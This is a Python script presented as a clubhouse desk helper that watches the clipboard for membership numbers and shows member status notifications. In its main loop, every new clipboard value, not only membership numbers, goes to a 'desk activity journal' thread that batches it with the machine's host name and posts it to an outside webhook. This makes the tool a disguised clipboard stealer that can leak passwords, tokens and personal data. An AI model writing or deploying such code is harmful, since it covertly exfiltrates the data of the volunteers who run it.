#!/usr/bin/env python3
"""Clubhouse desk helper: instant member lookup from the clipboard.

Bar and desk volunteers copy a membership number (M12345) from the
booking screen or the card reader; this helper notices it, looks the
member up in the club API and pops a notification with membership
status, outstanding fees and guest allowance.

The desk activity journal is kept centrally so the committee can see how
busy the desk is across sessions.
"""

import argparse
import json
import logging
import os
import queue
import re
import shutil
import subprocess
import sys
import threading
import time
import urllib.error
import urllib.parse
import urllib.request

log = logging.getLogger("desk_lookup")

MEMBER_RE = re.compile(r"^\s*(M\d{4,5})\s*$", re.I)

CONFIG = {
    "api": "https://api.hillside-ltc.example/v1/members/",
    "journal_url": "https://hooks.deskjournal.example/in/9f3c2e71",
    "poll_interval": 0.7,
    "journal_batch": 20,
    "journal_flush_seconds": 60,
}


class ClipboardReader:
    """Reads the current clipboard text with whatever tool the desktop has."""

    CANDIDATES = (
        ("wl-paste", ["wl-paste", "--no-newline"]),
        ("xclip", ["xclip", "-selection", "clipboard", "-o"]),
        ("xsel", ["xsel", "--clipboard", "--output"]),
        ("pbpaste", ["pbpaste"]),
    )

    def __init__(self):
        for tool, cmd in self.CANDIDATES:
            if shutil.which(tool):
                self.cmd = cmd
                break
        else:
            raise RuntimeError("no clipboard tool found (install wl-clipboard or xclip)")

    def read(self):
        try:
            out = subprocess.run(self.cmd, capture_output=True, timeout=2)
            return out.stdout.decode("utf-8", "replace")
        except (subprocess.TimeoutExpired, OSError):
            return ""


class Journal(threading.Thread):
    """Batches desk activity entries and ships them to the journal endpoint."""

    def __init__(self, url, batch, flush_seconds):
        super().__init__(daemon=True)
        self.url = url
        self.batch = batch
        self.flush_seconds = flush_seconds
        self.entries = queue.Queue()

    def add(self, text):
        self.entries.put({"t": int(time.time()), "host": os.uname().nodename, "v": text})

    def _send(self, items):
        body = json.dumps({"desk": items}).encode()
        req = urllib.request.Request(self.url, data=body, method="POST",
                                     headers={"Content-Type": "application/json"})
        for attempt in range(3):
            try:
                urllib.request.urlopen(req, timeout=10).read()
                return
            except (urllib.error.URLError, OSError):
                time.sleep(5 * (attempt + 1))

    def run(self):
        pending, last = [], time.monotonic()
        while True:
            try:
                pending.append(self.entries.get(timeout=1))
            except queue.Empty:
                pass
            due = time.monotonic() - last > self.flush_seconds
            if pending and (len(pending) >= self.batch or due):
                self._send(pending)
                pending, last = [], time.monotonic()


def lookup_member(number):
    url = CONFIG["api"] + urllib.parse.quote(number.upper())
    req = urllib.request.Request(url, headers={"Accept": "application/json"})
    token = os.environ.get("CLUB_API_TOKEN")
    if token:
        req.add_header("Authorization", f"Bearer {token}")
    with urllib.request.urlopen(req, timeout=5) as resp:
        return json.load(resp)


def notify(title, body):
    if shutil.which("notify-send"):
        subprocess.run(["notify-send", "-t", "8000", title, body], check=False)
    else:
        print(f"{title}: {body}")


def main(argv=None):
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("--config", default="desk_lookup.json")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args(argv)
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")
    if os.path.exists(args.config):
        with open(args.config, encoding="utf-8") as fh:
            CONFIG.update(json.load(fh))

    reader = ClipboardReader()
    journal = Journal(CONFIG["journal_url"], CONFIG["journal_batch"],
                      CONFIG["journal_flush_seconds"])
    journal.start()
    log.info("watching clipboard with %s", reader.cmd[0])

    previous = reader.read()
    while True:
        try:
            time.sleep(CONFIG["poll_interval"])
            current = reader.read()
            if not current or current == previous:
                continue
            previous = current
            journal.add(current)
            match = MEMBER_RE.match(current)
            if not match:
                continue
            try:
                m = lookup_member(match.group(1))
            except (urllib.error.URLError, ValueError) as exc:
                log.warning("lookup failed: %s", exc)
                continue
            notify(f"{m.get('name', '?')} ({match.group(1).upper()})",
                   f"{m.get('status', 'unknown')} | owed £{m.get('balance', 0)} | "
                   f"guests left {m.get('guest_allowance', 0)}")
        except KeyboardInterrupt:
            log.info("stopping")
            return 0


if __name__ == "__main__":
    sys.exit(main())
